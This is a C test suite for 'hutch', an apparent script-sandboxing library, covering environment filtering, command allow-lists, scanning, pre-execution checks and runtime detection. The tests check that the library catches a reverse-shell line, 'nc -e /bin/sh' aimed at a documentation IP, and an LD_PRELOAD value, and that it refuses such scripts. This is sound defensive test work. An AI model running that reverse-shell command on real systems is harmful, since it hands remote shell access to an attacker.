/* The public functions for scripts, as another program calls them. Prints "ok - NAME", "not ok - NAME" or "skip -
 * NAME". usage: scan-api DIRECTORY   (an empty one to work in) */
#include <hutch/hutch.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void ok(bool good, const char *name) {
        printf("%s - %s\n", good ? "ok" : "not ok", name);
}

static void put(const char *file, const char *text) {
        FILE *f = fopen(file, "w");

        if (!f || fputs(text, f) < 0 || fclose(f) != 0)
                abort();
}

static void environment(void) {
        static const char *const env[] = {"LANG=C", "LD_PRELOAD=/x.so", "SECRET=1", "MINE=2", NULL};
        const char **kept = NULL;
        hutch_policy *p = NULL;
        hutch_error err = {0};
        bool lang = false, mine = false, others = false;

        if (hutch_policy_new(&p) < 0 || hutch_policy_use_preset(p, HUTCH_PRESET_EXEC, &err) < 0)
                abort();
        ok(hutch_policy_set_env(p, "MINE", NULL, &err) == 0 && hutch_policy_env_allowed(p, "MINE") &&
                   !hutch_policy_env_allowed(p, "SECRET") && !hutch_policy_env_allowed(p, "LD_PRELOAD"),
           "hutch_policy_env_allowed: the usual ones and those that were passed, no others");
        if (hutch_policy_filter_env(p, env, &kept, &err) < 0)
                abort();
        for (size_t i = 0; kept[i]; i++) {
                lang = lang || kept[i] == env[0];
                mine = mine || kept[i] == env[3];
                others = others || kept[i] == env[1] || kept[i] == env[2];
        }
        ok(lang && mine && !others, "hutch_policy_filter_env: a new list of the same strings");
        hutch_free(kept);
        hutch_policy_free(p);
}

static void commands(void) {
        hutch_policy *p = NULL;
        hutch_error err = {0};
        bool before;

        if (hutch_policy_new(&p) < 0)
                abort();
        before = hutch_policy_command_allowed(p, "curl");
        ok(before && hutch_policy_allow_command(p, "default", &err) == 0 && hutch_policy_command_allowed(p, "cat") &&
                   !hutch_policy_command_allowed(p, "curl") && hutch_policy_allow_command(p, "curl", &err) == 0 &&
                   hutch_policy_command_allowed(p, "curl"),
           "hutch_policy_allow_command: the first one closes the list");
        hutch_policy_free(p);
}

static void scan(void) {
        static const char text[] = "true\nnc -e /bin/sh 192.0.2.1 1\n";
        hutch_findings *findings = NULL;
        hutch_error err = {0};
        const hutch_finding *f;

        if (hutch_scan(text, strlen(text), "shell", NULL, &findings, &err) < 0) {
                fprintf(stderr, "# %s\n", err.message);
                ok(false, "hutch_scan");
                return;
        }
        f = hutch_findings_get(findings, 0);
        ok(hutch_findings_count(findings) == 1 && f && f->line == 2 && f->column == 1 &&
                   strcmp(f->rule, "shell-reverse-shell") == 0 && hutch_findings_critical(findings) &&
                   !hutch_findings_get(findings, 1),
           "hutch_scan: rule, line and column");
        hutch_findings_free(findings);
        ok(hutch_scan("true\n", 5, "shell", NULL, &findings, &err) == 0 && !hutch_findings_critical(findings),
           "hutch_findings_critical: nothing found");
        hutch_findings_free(findings);
}

static void check(void) {
        static const char *const env[] = {"LD_PRELOAD=/x.so", NULL};
        hutch_exec_request request = {.struct_size = sizeof(request),
                                      .script = "bad.sh",
                                      .env = env,
                                      .skill_dir = "/nosuch",
                                      .origin = "untrusted",
                                      .isolation = "none"};
        hutch_problem **problems = NULL;
        hutch_error err = {0};
        unsigned seen = 0;

        put("bad.sh", "nc -e /bin/sh 192.0.2.1 1\n");
        if (hutch_exec_check(NULL, &request, &problems, &err) < 0)
                fprintf(stderr, "# %s\n", err.message);
        for (size_t i = 0; problems && problems[i]; i++)
                seen |= strcmp(problems[i]->part, "scan") == 0          ? 1u
                        : strcmp(problems[i]->part, "environment") == 0 ? 2u
                        : strcmp(problems[i]->part, "skill") == 0       ? 4u
                        : strcmp(problems[i]->part, "isolation") == 0   ? 8u
                                                                       : 0;
        ok(seen == 15, "hutch_exec_check: every problem at once");
        hutch_free(problems);
}

static void exec_one(void) {
        static const char *const args[] = {"a b", "", "it's \"q\"\n", NULL};
        hutch_exec_request request = {.struct_size = sizeof(request), .script = "bad.sh", .args = args};
        hutch_result *r = NULL;
        hutch_error err = {0};
        int e = hutch_exec(NULL, &request, &r, &err);

        ok(e < 0 && err.code == HUTCH_E_POLICY_REFUSED && r && r->exit_code == 125 && !r->killed && r->findings[0] &&
                   strcmp(r->findings[0]->code, "shell-reverse-shell") == 0 && r->findings[0]->line == 1,
           "hutch_exec: a critical finding refuses the script, and the result has it");
        hutch_result_free(r);
        r = NULL;
        put("good.sh", "printf '[%s]' \"$@\"; cat; echo 12345 >\"$TMPDIR/five\"; exit 3\n");
        request.script = "good.sh";
        request.stdin_data = "in";
        request.stdin_len = 2;
        e = hutch_exec(NULL, &request, &r, &err);
        if (e < 0 && (err.code == HUTCH_E_BACKEND_UNAVAILABLE || err.code == HUTCH_E_GUARANTEE_UNAVAILABLE))
                printf("skip - hutch_exec: %s\n", err.message);
        else {
                static const char want[] = "[a b][][it's \"q\"\n]in";

                if (e < 0)
                        fprintf(stderr, "# %s\n", err.message);
                ok(e == 0 && r->exit_code == 3 && r->output_len[HUTCH_STDOUT] == strlen(want) &&
                           memcmp(r->output[HUTCH_STDOUT], want, strlen(want)) == 0,
                   "hutch_exec: arguments, standard input and status");
                ok(r && r->output_files && r->output_files[0] && !r->output_files[1] && strcmp(r->output_files[0]->path, "five") == 0 &&
                           r->output_files[0]->size == 6,
                   "hutch_exec: what the script left is listed with its size");
        }
        hutch_result_free(r);
}

static void runtimes(void) {
        put("x", "#!/usr/bin/env -S A=b bash -e\n");
        put("y", "#!/usr/bin/tclsh\n");
        put("z", "#!/usr/bin/python3.11 -I\n");
        ok(strcmp(hutch_detect_runtime("a.py"), "python") == 0 && strcmp(hutch_detect_runtime("a.mts"), "node") == 0 &&
                   strcmp(hutch_detect_runtime("a.sh"), "shell") == 0 &&
                   strcmp(hutch_detect_runtime("x"), "shell") == 0 &&
                   strcmp(hutch_detect_runtime("y"), "binary") == 0 &&
                   strcmp(hutch_detect_runtime("z"), "python") == 0 &&
                   strcmp(hutch_detect_runtime("nosuch"), "binary") == 0,
           "hutch_detect_runtime: by the extension, else by the first line");
}

int main(int argc, char **argv) {
        if (argc != 2 || chdir(argv[1]) < 0)
                return 2;
        environment();
        commands();
        scan();
        check();
        exec_one();
        runtimes();
        return 0;
}
